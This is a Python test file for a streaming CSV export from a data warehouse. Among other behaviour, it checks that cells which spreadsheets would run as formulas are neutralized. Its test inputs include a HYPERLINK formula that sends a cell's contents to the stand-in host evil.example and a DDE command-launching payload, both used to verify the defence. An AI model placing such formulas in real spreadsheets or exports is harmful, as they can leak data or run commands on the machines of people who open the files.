"""CSV exports stream: the result is read from the warehouse in pieces, and the connection is given back
when the export is read to its end, or closed when the reader stops early."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterator

import pytest
from databricks.sql.client import Cursor

from core.errors import CatalogPermissionDenied, TooManyRequests
from core.identity import UserIdentity
from core.settings import Settings
from services import warehouse
from services.warehouse import TableRef, export, queries

TRIPS = TableRef("samples", "nyctaxi", "trips")
ALICE = UserIdentity("alice@example.com", "alice@example.com", "alice", None, access_token="dapi-local-alice-0001")
BOB = UserIdentity("bob@example.com", "bob@example.com", "bob", None, access_token="dapi-local-bob-0002")


def test_an_export_reads_its_rows_in_pieces_never_all_at_once(
    settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fetch_everything(self: Cursor) -> None:
        raise AssertionError("an export must not hold all its rows")

    monkeypatch.setattr(Cursor, "fetchall", fetch_everything)
    monkeypatch.setattr(queries, "EXPORT_BATCH_ROWS", 7)
    pieces = list(warehouse.export_csv(settings=settings, user=ALICE, table=TRIPS, max_rows=30))
    lines = "".join(pieces).strip().splitlines()
    assert len(lines) == 31  # the header and 30 rows
    assert len([p for p in pieces if p]) == 5  # 7 + 7 + 7 + 7 + 2 rows, the header with the first


def test_the_connection_goes_back_when_read_to_the_end_and_is_closed_when_abandoned(settings: Settings) -> None:
    warehouse.close_connections()
    opened = warehouse._cache.opened
    "".join(warehouse.export_csv(settings=settings, user=ALICE, table=TRIPS, max_rows=10))
    warehouse.query_page(settings=settings, user=ALICE, table=TRIPS, limit=1)
    assert warehouse._cache.opened == opened + 1  # the page reused the export's connection

    abandoned = warehouse.export_csv(settings=settings, user=ALICE, table=TRIPS, max_rows=5000)
    next(abandoned)
    abandoned.close()  # a client that went away
    warehouse.query_page(settings=settings, user=ALICE, table=TRIPS, limit=1)
    assert warehouse._cache.opened == opened + 2  # its session may be mid-result: closed, not reused


def test_a_refused_export_fails_before_the_first_byte(settings: Settings) -> None:
    """The statement runs when the export is asked for, so the API answers 403 instead of a broken download."""
    with pytest.raises(CatalogPermissionDenied):
        warehouse.export_csv(settings=settings, user=BOB, table=TableRef("samples", "tpch", "orders"))


# --- Formula safety (OWASP CSV injection), the byte cap and the per-user limit on concurrent exports ---

CUSTOMER = TableRef("samples", "tpch", "customer")
COLUMNS = {"name": "string", "amount": "decimal(18,2)", "count": "bigint", "day": "date", "flag": "boolean"}


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_a_spreadsheet_would_run_as_a_formula_is_neutralized(lead: str) -> None:
    payload = f'{lead}HYPERLINK("http://evil.example/?"&A1,"Click")'
    text = export.render_rows([(payload, -3.5, -7, "2016-01-02", "true")], export.text_columns(COLUMNS))
    cells = next(csv.reader(io.StringIO(text)))
    assert cells == ["'" + payload, "-3.5", "-7", "2016-01-02", "true"]
    assert text.startswith("\"'")  # the neutralized cell is quoted
    assert ",-3.5,-7," in text  # numbers stay numbers: bare, no quote mark


def test_every_text_cell_is_quoted_so_no_separator_starts_a_new_cell() -> None:
    """A ';' (the separator of some locales) or a ',' inside a text cell cannot start a new cell there."""
    text = export.render_rows([("a;=1+1", None, None, None, None), ("b,=2", 1, 2, None, None)], [0, 3, 4])
    assert text.splitlines()[0] == '"a;=1+1","","","",""'
    assert next(csv.reader(io.StringIO(text.splitlines()[1]))) == ["b,=2", "1", "2", "", ""]


def test_a_header_from_hostile_column_names_is_neutralized_and_plain_names_stay_bare() -> None:
    assert export.render_header(["fare_amount", "pickup_zip"]) == "fare_amount,pickup_zip\r\n"
    hostile = export.render_header(['=cmd|" /C calc"!A0', "a;b", "@x"])
    assert next(csv.reader(io.StringIO(hostile))) == ['\'=cmd|" /C calc"!A0', "a;b", "'@x"]


def test_the_numeric_types_are_the_only_ones_written_bare() -> None:
    columns = {
        "a": "int", "b": "bigint", "c": "decimal(10,2)", "d": "double", "e": "float", "f": "smallint",
        "g": "tinyint", "h": "string", "i": "interval day to second", "j": "timestamp", "k": "array<int>",
        "l": "varchar(10)", "m": "boolean", "n": "date", "o": "binary", "p": "struct<a:int>",
    }  # fmt: skip
    assert [list(columns)[i] for i in export.text_columns(columns)] == list("hijklmnop")


def test_an_export_keeps_negative_numbers_as_numbers_and_quotes_text(settings: Settings) -> None:
    text = "".join(warehouse.export_csv(settings=settings, user=ALICE, table=CUSTOMER, max_rows=200))
    rows = list(csv.DictReader(io.StringIO(text)))
    negative = [r for r in rows if r["c_acctbal"].startswith("-")]
    assert negative  # balances below zero, written bare as the warehouse formats a decimal
    assert all(float(r["c_acctbal"]) < 0 for r in negative)
    first = text.splitlines()[1]
    assert first.startswith('1,"Customer#000000001",')  # a bigint bare, a string quoted


def test_an_export_stops_at_the_byte_cap_after_a_whole_row(settings: Settings) -> None:
    whole = "".join(warehouse.export_csv(settings=settings, user=ALICE, table=TRIPS, max_rows=100))
    capped = "".join(warehouse.export_csv(settings=settings, user=ALICE, table=TRIPS, max_rows=100, max_bytes=1000))
    assert len(capped.encode()) <= 1000
    assert capped.endswith("\r\n")
    assert whole.startswith(capped)
    next_row = whole[len(capped) :].split("\r\n", 1)[0] + "\r\n"
    assert len(capped.encode()) + len(next_row.encode()) > 1000  # as many whole rows as fit, no fewer
    assert len(capped.splitlines()) > 5


def test_the_export_asks_the_warehouse_for_text_so_the_app_parses_no_timestamp(settings: Settings) -> None:
    """The connector parsed two timestamps a row with dateutil: most of the export's CPU time."""
    text = "".join(warehouse.export_csv(settings=settings, user=ALICE, table=TRIPS, max_rows=3))
    first = next(csv.DictReader(io.StringIO(text)))
    assert dt.datetime.fromisoformat(first["tpep_pickup_datetime"])
    assert " " in first["tpep_pickup_datetime"]  # the warehouse's own text, not Python's isoformat


@pytest.fixture
def one_connection_each() -> Iterator[None]:
    """Exports at once open a connection each; closed after the test, so later tests start from one idle."""
    yield
    warehouse.close_connections()


@pytest.mark.usefixtures("one_connection_each")
def test_a_third_export_at_once_of_one_user_is_too_many_requests(settings: Settings) -> None:
    running = [warehouse.export_csv(settings=settings, user=ALICE, table=TRIPS, max_rows=5000) for _ in range(2)]
    try:
        with pytest.raises(TooManyRequests) as refused:
            warehouse.export_csv(settings=settings, user=ALICE, table=TRIPS, max_rows=5)
        assert refused.value.status == 429
        assert refused.value.retry_after
        assert refused.value.technical_details["max_concurrent_exports"] == export.MAX_EXPORTS_PER_USER
        assert "".join(warehouse.export_csv(settings=settings, user=BOB, table=TRIPS, max_rows=5))  # per user
    finally:
        running[0].close()
    assert "".join(warehouse.export_csv(settings=settings, user=ALICE, table=TRIPS, max_rows=5))  # a slot came back
    "".join(running[1])
    assert export.slots.running(ALICE.user_id) == 0


def test_a_refused_export_gives_its_slot_back(settings: Settings) -> None:
    for _ in range(export.MAX_EXPORTS_PER_USER + 1):
        with pytest.raises(CatalogPermissionDenied):
            warehouse.export_csv(settings=settings, user=BOB, table=TableRef("samples", "tpch", "orders"))
    assert export.slots.running(BOB.user_id) == 0
